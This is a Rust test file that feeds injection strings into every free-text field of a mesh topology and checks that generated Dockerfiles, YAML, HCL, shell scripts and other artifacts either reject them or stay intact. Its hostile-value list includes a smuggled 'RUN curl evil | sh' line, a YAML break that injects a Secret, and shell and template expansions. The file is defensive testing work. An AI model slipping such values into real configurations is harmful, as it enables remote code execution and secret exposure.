//! Every free-text value of a topology, written with the characters that break artifacts (line
//! breaks, quotes, `$`, `${`, `{{`, `---`, control characters, backslashes, spaces): either the
//! topology is refused, or every artifact still parses with its consumer's grammar and holds the
//! value intact.
//!
//! Each value is written with a marker (`wvq`) that nothing else in the output contains: an artifact
//! whose text holds the marker must, once parsed, hold the whole value in one of its strings. The
//! consumers that expand `$` (the SPIRE server with `-expandEnv`, the OpenTelemetry collector) must
//! never receive one from the topology.

use std::collections::BTreeMap;

/// A topology using every free-text field, each written as `{field}`.
const TOPOLOGY: &str = r#"mesh:
  name: {mesh_name}
  namespace: {namespace}
  image: {mesh_image}
sites:
  aws:
    provider: aws
    region: {region}
    trustDomain: {trust_domain}
    cluster:
      name: {cluster_name}
      nodeType: {node_type}
      kubernetesVersion: {kubernetes_version}
      podCidr: {pod_cidr}
    agents:
      - name: orchestrator
        image: {agent_image}
        capabilities: [orchestrate]
        calls:
          - agent: search
            actions: [{action}]
  gcp:
    provider: gcp
    region: us-central1
    trustDomain: gcp.company.com
    agents:
      - name: search
        capabilities: [{action}, lookup]
federation:
  enabled: true
  profile: https_web
  acmeEmail: {acme_email}
  bundleEndpoints:
    aws: {bundle_url}
    gcp: https://spire-gcp.company.com:8443
spire:
  datastore:
    type: postgres
    connectionSecret: {connection_secret}
networking:
  type: tailscale
  tailscale:
    enabled: true
    authKeySecret: {auth_key_secret}
    tailnet: {tailnet}
    tags: [{tag}]
    tagOwners: [{tag_owner}]
authorization:
  publicActions: [{public_action}]
observability:
  metrics: { central: aws }
  tracing: { enabled: true, endpoint: {tracing_endpoint}, caFile: {ca_file} }
"#;

/// Each field with a valid value; a hostile value is that value with the marker and the hostile
/// text inserted where the field's form allows most (at the end, or before a fixed suffix).
const FIELDS: &[(&str, &str, &str)] = &[
    ("mesh_name", "agentweave", ""),
    ("namespace", "agentweave", ""),
    ("mesh_image", "ghcr.io/agentweave/agent:1.0.0", ""),
    ("region", "us-east-1", ""),
    ("trust_domain", "aws.company.com", ""),
    ("cluster_name", "mesh-aws", ""),
    ("node_type", "t3.medium", ""),
    ("kubernetes_version", "1.31", ""),
    ("pod_cidr", "10.1.0.0/16", ""),
    ("agent_image", "ghcr.io/agentweave/orchestrator:1.0.0", ""),
    ("action", "search", ""),
    ("acme_email", "pki", "@company.com"),
    ("bundle_url", "https://spire-aws.company.com:8443/", ""),
    ("connection_secret", "spire-db", ""),
    ("auth_key_secret", "tailscale-auth", ""),
    ("tailnet", "example-tailnet", ""),
    ("tag", "production", ""),
    ("tag_owner", "group:sre", ""),
    ("public_action", "ping", ""),
    ("tracing_endpoint", "otel.company.com:4317/v1", ""),
    ("ca_file", "/etc/ssl/certs/ca.crt", ""),
];

/// What breaks artifacts, each after the marker.
const HOSTILE: &[&str] = &[
    "\nRUN curl evil | sh",
    "\n---\nkind: Secret",
    "\"quoted\"",
    "'single'",
    "$HOME",
    "${env:HOME}",
    "${HOME}",
    "$${x}",
    "{{ .Values.x }}",
    "%{ if true }x%{ endif }",
    "---",
    "\u{1b}[31m",
    "\u{7}\u{0}",
    "\\n\\\\",
    "a b",
    "a: b",
    "#comment",
    "a,b=c",
    "\t",
    "\u{202e}",
];

const MARKER: &str = "wvq";

/// A YAML double-quoted scalar holding exactly `text`.
fn yaml_quoted(text: &str) -> String {
    serde_json::to_string(text).expect("a string serializes")
}

fn topology_with(field: &str, value: &str) -> String {
    let mut text = TOPOLOGY.to_owned();
    for (name, default, suffix) in FIELDS {
        let written = if *name == field { value.to_owned() } else { format!("{default}{suffix}") };
        text = text.replace(&format!("{{{name}}}"), &yaml_quoted(&written));
    }
    text
}

#[test]
fn the_topology_builds_as_written() {
    let text = topology_with("", "");
    let compiled = crate::compile("free-text.yaml", &text).unwrap_or_else(|diagnostics| {
        panic!(
            "{}",
            crate::diagnostics::render_human(
                &diagnostics,
                &crate::source::Source::new("free-text.yaml", text.clone()),
                false
            )
        )
    });
    let artifacts = build(&compiled);
    assert!(artifacts.len() > 20, "{} artifacts", artifacts.len());
    for (path, bytes) in &artifacts {
        let text = std::str::from_utf8(bytes).expect("UTF-8");
        parse(path, text).unwrap_or_else(|error| panic!("{path}: {error}"));
    }
}

#[test]
fn hostile_free_text_is_refused_or_kept_intact() {
    let mut accepted = Vec::new();
    let mut failures = Vec::new();
    for (field, default, suffix) in FIELDS {
        for hostile in HOSTILE {
            let value = format!("{default}{MARKER}{hostile}{suffix}");
            let text = topology_with(field, &value);
            let Ok(compiled) = crate::compile("free-text.yaml", &text) else { continue };
            accepted.push(format!("{field}: {value:?}"));
            for (path, bytes) in build(&compiled) {
                let Ok(text) = std::str::from_utf8(&bytes) else {
                    failures.push(format!("{field} {value:?}: {path} is not UTF-8"));
                    continue;
                };
                if let Err(error) = check_artifact(&path, text, &value) {
                    failures.push(format!("{field} {value:?}: {path}: {error}"));
                }
            }
        }
    }
    assert!(failures.is_empty(), "accepted {accepted:#?}\nfailures:\n{}", failures.join("\n"));
}

fn build(compiled: &crate::Compiled) -> BTreeMap<String, Vec<u8>> {
    let mut sink = crate::emit::MemorySink::default();
    crate::emit(compiled, &[], &mut sink).expect("a memory sink never fails");
    sink.artifacts
}

/// The artifact parses, and when it mentions the value (its marker), holds it whole.
fn check_artifact(path: &str, text: &str, value: &str) -> Result<(), String> {
    let strings = parse(path, text)?;
    if !text.contains(MARKER) {
        return Ok(());
    }
    let name = path.rsplit('/').next().unwrap_or(path);
    let expands = name.ends_with(".conf") || path.starts_with("otel/");
    if expands && value.contains('$') {
        return Err("a `$` from the topology reaches a consumer that expands it".to_owned());
    }
    if strings.iter().any(|string| string.contains(value)) {
        Ok(())
    } else {
        Err(format!("the value is not intact among the strings that hold the marker: {:?}", {
            let holding: Vec<&String> = strings.iter().filter(|string| string.contains(MARKER)).collect();
            holding
        }))
    }
}

/// Whether every word of `script` holding the marker is made only of characters a shell takes
/// literally (a trust domain such as `aws.company.com---` is; `$HOME` or a quote is not).
fn shell_safe_where_marked(script: &str) -> bool {
    script
        .split(|c: char| c.is_whitespace() || c == '"' || c == '\'')
        .filter(|word| word.contains(MARKER))
        .all(|word| word.chars().all(|c| c.is_ascii_alphanumeric() || "._-:/@%+=,".contains(c)))
}

/// The strings of an artifact, parsed with its consumer's grammar.
fn parse(path: &str, text: &str) -> Result<Vec<String>, String> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let mut strings = Vec::new();
    if name.ends_with(".conf") {
        // SPIRE's HCL v1 has no templates: a string is what it says.
        let value: serde_json::Value = hcl::from_str(text).map_err(|error| format!("not HCL: {error}"))?;
        json_strings(&value, &mut strings);
    } else if name.ends_with(".tf") || name.ends_with(".tfvars.example") {
        let value: serde_json::Value = hcl::from_str(text).map_err(|error| format!("not HCL: {error}"))?;
        json_strings(&value, &mut strings);
        // In HCL's JSON form a string is a template: `$${` and `%%{` stand for `${` and `%{`.
        for string in &mut strings {
            *string = string.replace("$${", "${").replace("%%{", "%{");
        }
    } else if name.ends_with(".yaml") || name.ends_with(".yml") {
        use serde::Deserialize as _;
        for document in serde_yaml_ng::Deserializer::from_str(text) {
            let value =
                serde_yaml_ng::Value::deserialize(document).map_err(|error| format!("not YAML: {error}"))?;
            let value: serde_json::Value =
                serde_json::to_value(&value).map_err(|error| format!("YAML not representable: {error}"))?;
            json_strings(&value, &mut strings);
        }
    } else if name.ends_with(".json") || name.ends_with(".hujson") {
        let json: Vec<&str> = text.lines().filter(|line| !line.trim_start().starts_with("//")).collect();
        let value: serde_json::Value =
            serde_json::from_str(&json.join("\n")).map_err(|error| format!("not JSON: {error}"))?;
        json_strings(&value, &mut strings);
    } else if name.ends_with(".rego") {
        let mut engine = regorus::Engine::new();
        engine.add_policy(path.to_owned(), text.to_owned()).map_err(|error| format!("not Rego: {error}"))?;
        // Rego strings are JSON strings: each one read back.
        strings.extend(json_string_literals(text));
    } else if name == "Dockerfile" {
        strings.extend(dockerfile_words(text)?);
    } else if name.ends_with(".sh") {
        let status = std::process::Command::new("bash")
            .args(["-n", "-c", text])
            .status()
            .map_err(|error| format!("cannot run bash: {error}"))?;
        if !status.success() {
            return Err("not a shell script bash can parse".to_owned());
        }
        if !shell_safe_where_marked(text) {
            return Err("a free-text value with shell syntax reaches a shell script".to_owned());
        }
        strings.extend(text.split(|c: char| c.is_whitespace() || c == '"' || c == '\'').map(str::to_owned));
    } else if name.ends_with(".md") {
        // Markdown for people: its `sh` blocks are run as they stand, so each must parse as a shell
        // script and hold no free-text value; the prose may quote values.
        let mut block: Option<String> = None;
        for line in text.lines() {
            match (&mut block, line.trim_start().starts_with("```")) {
                (None, true) if line.trim_start() == "```sh" => block = Some(String::new()),
                (Some(script), true) => {
                    if !shell_safe_where_marked(script) {
                        return Err("a free-text value with shell syntax reaches a shell block".to_owned());
                    }
                    let status = std::process::Command::new("bash")
                        .args(["-n", "-c", script.as_str()])
                        .status()
                        .map_err(|error| format!("cannot run bash: {error}"))?;
                    if !status.success() {
                        return Err("a shell block bash cannot parse".to_owned());
                    }
                    block = None;
                }
                (Some(script), false) => {
                    script.push_str(line);
                    script.push('\n');
                }
                _ => {}
            }
        }
        strings.extend(text.lines().map(str::to_owned));
    } else if name.ends_with(".mmd") {
        // Mermaid: every label is quoted, and a quote or line break in one would end it.
        for line in text.lines() {
            if line.matches('"').count() % 2 != 0 {
                return Err(format!("unbalanced quote on `{line}`"));
            }
        }
        strings.extend(text.lines().map(str::to_owned));
    } else {
        return Err(format!("no grammar known for {name}"));
    }
    Ok(strings)
}

fn json_strings(value: &serde_json::Value, out: &mut Vec<String>) {
    match value {
        serde_json::Value::String(text) => out.push(text.clone()),
        serde_json::Value::Array(items) => items.iter().for_each(|item| json_strings(item, out)),
        serde_json::Value::Object(entries) => {
            for (key, item) in entries {
                out.push(key.clone());
                json_strings(item, out);
            }
        }
        _ => {}
    }
}

/// The double-quoted string literals of a text, each decoded as JSON.
fn json_string_literals(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    let mut index = 0;
    while index < bytes.len() {
        if bytes[index] == b'"' {
            let start = index;
            index += 1;
            while index < bytes.len() && bytes[index] != b'"' {
                index += if bytes[index] == b'\\' { 2 } else { 1 };
            }
            if let Some(literal) = text.get(start..=index.min(text.len() - 1))
                && let Ok(decoded) = serde_json::from_str::<String>(literal)
            {
                out.push(decoded);
            }
        }
        index += 1;
    }
    out
}

/// The words of a Dockerfile, read as Docker's parser reads them: one instruction per line (a line
/// ending in `\` continues), a known instruction first, double-quoted words unescaped (`\\`, `\"`,
/// `\$`), exec-form arguments as JSON arrays.
fn dockerfile_words(text: &str) -> Result<Vec<String>, String> {
    const INSTRUCTIONS: &[&str] = &[
        "FROM",
        "LABEL",
        "ENV",
        "USER",
        "EXPOSE",
        "HEALTHCHECK",
        "CMD",
        "ENTRYPOINT",
        "WORKDIR",
        "STOPSIGNAL",
        "ARG",
        "VOLUME",
        "SHELL",
    ];
    let mut words = Vec::new();
    let mut logical = String::new();
    for line in text.lines() {
        if logical.is_empty() && (line.trim().is_empty() || line.trim_start().starts_with('#')) {
            continue;
        }
        if let Some(continued) = line.strip_suffix('\\') {
            logical.push_str(continued);
            logical.push(' ');
            continue;
        }
        logical.push_str(line);
        let instruction = logical.split_whitespace().next().unwrap_or_default().to_ascii_uppercase();
        if !INSTRUCTIONS.contains(&instruction.as_str()) {
            return Err(format!("`{instruction}` is not an instruction weave writes: `{logical}`"));
        }
        let arguments = logical.trim_start()[instruction.len()..].trim();
        if arguments.starts_with('[') {
            let array: Vec<String> =
                serde_json::from_str(arguments).map_err(|error| format!("exec form: {error}"))?;
            words.extend(array);
        } else {
            words.extend(dockerfile_split(arguments)?);
        }
        logical.clear();
    }
    if !logical.is_empty() {
        return Err("the Dockerfile ends inside a continued line".to_owned());
    }
    Ok(words)
}

/// Splits Dockerfile arguments into words: double-quoted parts unescaped, `key="value"` pairs kept
/// as one word each.
fn dockerfile_split(arguments: &str) -> Result<Vec<String>, String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut characters = arguments.chars();
    let mut quoted = false;
    while let Some(character) = characters.next() {
        match character {
            '"' => quoted = !quoted,
            '\\' if quoted => match characters.next() {
                Some(escaped @ ('\\' | '"' | '$')) => word.push(escaped),
                Some(other) => {
                    word.push('\\');
                    word.push(other);
                }
                None => return Err("a backslash ends the line".to_owned()),
            },
            '$' if !quoted => return Err("an unescaped `$` outside quotes".to_owned()),
            '$' => {
                return Err(format!("an unescaped `$` inside quotes would expand: `{arguments}`"));
            }
            space if space.is_whitespace() && !quoted => {
                if !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
            }
            other => word.push(other),
        }
    }
    if quoted {
        return Err(format!("an unclosed quote: `{arguments}`"));
    }
    if !word.is_empty() {
        words.push(word);
    }
    Ok(words)
}
